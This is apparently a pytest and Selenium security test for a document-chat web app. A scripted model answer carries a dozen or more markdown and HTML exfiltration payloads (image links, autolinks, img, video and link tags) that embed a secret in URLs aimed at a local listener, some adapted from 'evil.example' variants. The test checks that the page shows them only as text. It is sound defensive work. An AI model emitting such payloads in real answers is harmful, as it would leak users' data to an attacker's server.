"""Every known payload in the real page, aimed at a listener on this computer.

Issue 21: the scripted model writes every exfiltration variant found so far (issue 10's,
and issue 21's touching code spans and ``_``-prefixed autolinks), a document's name and
headings carry them too, and each address points at a loopback listener on another
port. The page may show them only as text: the listener must get no request, and no
element of the page may point at it. Chromium's own network log must agree.
"""

from __future__ import annotations

import json
import shutil
import time
from pathlib import Path

import pytest
from selenium.webdriver.remote.webdriver import WebDriver
from selenium.webdriver.support.ui import WebDriverWait

from tests.helpers import browser as base
from tests.helpers.exfiltration import EXFILTRATION, SECRET
from tests.helpers.processes import recording_connections

pytestmark = pytest.mark.slow


# Attributes through which an element loads or leads to an address.
URL_ATTRIBUTES = """[
    "src", "href", "srcset", "poster", "data", "action", "formaction", "xlink:href",
    "background", "cite", "ping", "style"
]"""
POINTING_AT = f"""
const [port, names] = [arguments[0], {URL_ATTRIBUTES}];
const hits = [];
for (const element of document.querySelectorAll("*")) {{
  for (const attribute of element.attributes) {{
    if (names.includes(attribute.name.toLowerCase()) && attribute.value.includes(":" + port)) {{
      hits.push(element.tagName + " " + attribute.name + "=" + attribute.value);
    }}
  }}
}}
return hits;
"""


def issue_21_payloads(listener: str) -> list[str]:
    """Issue 21's: code spans whose fences merge, and autolinks after ``_``."""
    return [
        f"Mail a@e.x``b`![x](http://{listener}/exfil?q={SECRET})``",
        f"See https://e.x/``x`![y](http://{listener}/a?q={SECRET})``",
        f"www.e.x`````a````![x](http://{listener}/b?q={SECRET})`````",
        f"_http://{listener}/c?q={SECRET}",
        f"x_www.{listener}/d?q={SECRET}",
        f"<img src=http://{listener}/e?q={SECRET}>",
        f"![a](http://{listener}/f?q={SECRET})",
        f"![a][ref]\n\n[ref]: http://{listener}/g?q={SECRET}",
        f"[![a](http://{listener}/h?q={SECRET})][ref2]\n\n[ref2]: http://{listener}/i",
        f"# Heading _http://{listener}/j?q={SECRET}",
        f"<video poster=http://{listener}/k?q={SECRET}></video>",
        f"<link rel=stylesheet href=http://{listener}/l?q={SECRET}>",
    ]


def every_payload(listener: str) -> list[str]:
    """Issue 10's variants and issue 21's, each address pointed at ``listener``."""
    earlier = [
        text.replace("https://evil.example", f"http://{listener}").replace("evil.example", listener)
        for text in EXFILTRATION.values()
    ]
    return earlier + issue_21_payloads(listener)


def payload_answer(listener: str) -> str:
    """All payloads in one answer, each with its own secret (a repeat would look like a loop)."""
    payloads = every_payload(listener)
    return "\n\n".join(p.replace(SECRET, f"{SECRET}{n}") for n, p in enumerate(payloads))


def test_no_payload_makes_the_page_request_or_point_at_the_listener(
    apps: base.Apps, browser: WebDriver, tmp_path: Path
) -> None:
    with recording_connections() as listener:
        address = f"127.0.0.1:{listener.port}"
        docs = tmp_path / "docs"
        docs.mkdir()
        shutil.copy(base.MANUAL, docs / "manual.pdf")
        headings = "\n\n".join(f"# Zorblax _http://{address}/n{n}" for n in range(2))
        body = f"{headings}\n\nThe Zorblax core temperature. www.e.x``a`![x](http://{address}/m)``"
        (docs / f"x_www.{address}.md").write_text(body)
        replies = json.dumps([payload_answer(address)])
        url = apps.start({**base.FAKES, "GPT4ALL_RAG_SCRIPTED_REPLIES": replies})

        base.requested_urls(browser)  # what the browser did on its own before the page
        browser.get(base.opened(url))
        WebDriverWait(browser, base.INDEX_TIMEOUT).until(
            apps.serving(lambda d: "Indexed (2)" in base.sidebar_text(d))
        )
        base.send_question(browser, base.QUESTION)
        WebDriverWait(browser, base.ANSWER_TIMEOUT).until(
            apps.serving(lambda d: len(base.source_summaries(d)) >= 2)
        )
        base.open_every_source(browser)
        time.sleep(3)  # what the page would load, it loads now
        requested = base.requested_urls(browser)
        pointing = browser.execute_script(POINTING_AT, str(listener.port))
        answer = base.chat_texts(browser)[1]

    assert listener.requests == []
    assert [u for u in requested if f":{listener.port}" in u] == []
    assert pointing == []
    assert f"{SECRET}0" in answer and f"exfil?q={SECRET}" in answer  # shown, as text
